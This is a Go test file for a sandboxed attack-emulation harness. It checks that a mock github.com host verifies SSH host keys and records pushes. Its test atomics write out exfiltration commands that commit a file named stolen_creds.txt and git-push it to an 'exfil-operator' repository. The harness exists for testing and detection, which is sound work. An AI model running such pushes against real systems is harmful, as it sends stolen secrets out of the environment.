package harness

import (
	"context"
	"net/netip"
	"os/exec"
	"slices"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/t1567001/harness/emulator"
	"github.com/t1567001/harness/sandbox"
	"github.com/t1567001/harness/sensor"
)

// commitStaged makes a repository of stolen_creds.txt to push.
const commitStaged = `git init -q && git add stolen_creds.txt && git -c user.name=o -c user.email=o@example.invalid commit -q -m m
`

// sshHostKeyTests push over SSH three ways, in sshHostKeyOrder: a plain
// `git push git@github.com:` (no GIT_SSH_COMMAND, no option) that must
// find the mock's host key in /etc/ssh/ssh_known_hosts, and the same push
// trusting another key for github.com, or none.
var (
	sshHostKeyTests = map[string]string{
		"plain push": `test -z "$GIT_SSH_COMMAND" && grep -q '^github.com ssh-ed25519 ' /etc/ssh/ssh_known_hosts
` + commitStaged + `git push -q git@github.com:exfil-operator/ssh-plain.git HEAD:refs/heads/main
`,
		"wrong host key": `ssh-keygen -q -t ed25519 -N '' -f wrong && printf 'github.com %s\n' "$(cut -d' ' -f1,2 wrong.pub)" > known
` + commitStaged + `GIT_SSH_COMMAND="ssh -o GlobalKnownHostsFile=$PWD/known -o UserKnownHostsFile=/dev/null" git push -q git@github.com:exfil-operator/ssh-wrong.git HEAD:refs/heads/main
`,
		"no host key": commitStaged + `GIT_SSH_COMMAND="ssh -o GlobalKnownHostsFile=/dev/null -o UserKnownHostsFile=/dev/null" git push -q git@github.com:exfil-operator/ssh-none.git HEAD:refs/heads/main
`,
	}
	sshHostKeyOrder = []string{"plain push", "wrong host key", "no host key"}
)

// TestSSHVerifiesTheMocksHostKey: in the sandbox a plain `git push
// git@github.com:` verifies the mock's host key against
// /etc/ssh/ssh_known_hosts and delivers; the same push that trusts another
// key for github.com, or none, is refused by ssh before anything is sent.
func TestSSHVerifiesTheMocksHostKey(t *testing.T) {
	requireSandbox(t)
	for _, tool := range []string{"git", "ssh", "ssh-keygen"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s is not installed (git, openssh-client)", tool)
		}
	}
	opts := options(t)
	opts.Atomics = atomicsFile(t, sshHostKeyTests, sshHostKeyOrder)
	run, err := RunLocal(context.Background(), opts)
	require.NoError(t, err)
	require.Equal(t, "on", run.Results.Sandbox)
	assertSSHHostKeyChecked(t, run)
}

// assertSSHHostKeyChecked checks a run of sshHostKeyTests: the plain push
// delivered stolen_creds.txt, byte for byte, over SSH to the mock's
// github.com on port 22 of one of its addresses; the other two failed in
// ssh's host key check, and reached nothing.
func assertSSHHostKeyChecked(t *testing.T, run *Run) {
	t.Helper()
	require.Len(t, run.Results.Atomics, len(sshHostKeyOrder))
	plain := run.Results.Atomics[0]
	assert.Equal(t, 0, plain.ExitCode, plain.Stderr)
	assert.True(t, plain.Intact, plain.Stderr)
	require.NotEmpty(t, plain.Uploads)
	assert.Equal(t, "github.com", plain.Uploads[0].Host)
	assert.Equal(t, fixtureSHA(t, "stolen_creds.txt"), plain.Uploads[0].SHA256)
	assertSSHPush(t, run.Tests[0], "stolen_creds.txt")

	for i, want := range map[int]string{1: "REMOTE HOST IDENTIFICATION HAS CHANGED", 2: "Host key verification failed"} {
		a := run.Results.Atomics[i]
		assert.NotEqual(t, 0, a.ExitCode, a.Name)
		assert.Contains(t, a.Stderr, want, a.Name)
		assert.False(t, a.Intact, a.Name)
		assert.Empty(t, a.Uploads, "%s: nothing reached the mock", a.Name)
		for _, e := range run.Tests[i].Ledger {
			assert.NotEqual(t, "SSH", e.Method, "%s: no git command ran at the mock", a.Name)
		}
	}
}

// assertSSHPush checks that tr's ledger holds a git-receive-pack over SSH
// at github.com's port 22 that landed file, with the fixture's sha256, and
// that its client's only connects (as the sensor saw them) went to
// github.com's addresses on port 22 or to the sinkhole: nothing else left.
func assertSSHPush(t *testing.T, tr TestRun, file string) {
	t.Helper()
	table, err := sandbox.DefaultTable()
	require.NoError(t, err)
	github := table.Lookup("github.com")
	var push *emulator.Entry
	for i, e := range tr.Ledger {
		if e.Method == "SSH" && e.Status == 200 && len(e.Files) > 0 {
			push = &tr.Ledger[i]
		}
	}
	require.NotNil(t, push, "%s: a push over SSH in the ledger", tr.Test.Name)
	assert.Equal(t, "github.com", push.Host)
	assert.Equal(t, 22, push.ServerPort)
	assert.Equal(t, "publickey", push.AuthScheme)
	assert.Contains(t, push.Path, "git-receive-pack")
	assert.Equal(t, file, push.Files[0].Name)
	assert.Equal(t, fixtureSHA(t, file), push.Files[0].SHA256)

	ssh := 0
	for _, o := range tr.Observations {
		if o.Kind != sensor.KindConnect || o.RemoteIP == "" {
			continue
		}
		ip := netip.MustParseAddr(o.RemoteIP)
		switch {
		case ip == table.Resolver:
		case slices.Contains(github, ip) && o.RemotePort == 22:
			// A UDP connect is getaddrinfo ordering the answers (RFC
			// 6724): it sends nothing.
			if o.Proto != "udp" {
				ssh++
			}
		default:
			t.Errorf("%s: a connect to %s:%d (%s) beside the push", tr.Test.Name, ip, o.RemotePort, o.Proto)
		}
	}
	assert.NotZero(t, ssh, "%s: the sensor saw ssh dial port 22", tr.Test.Name)
}
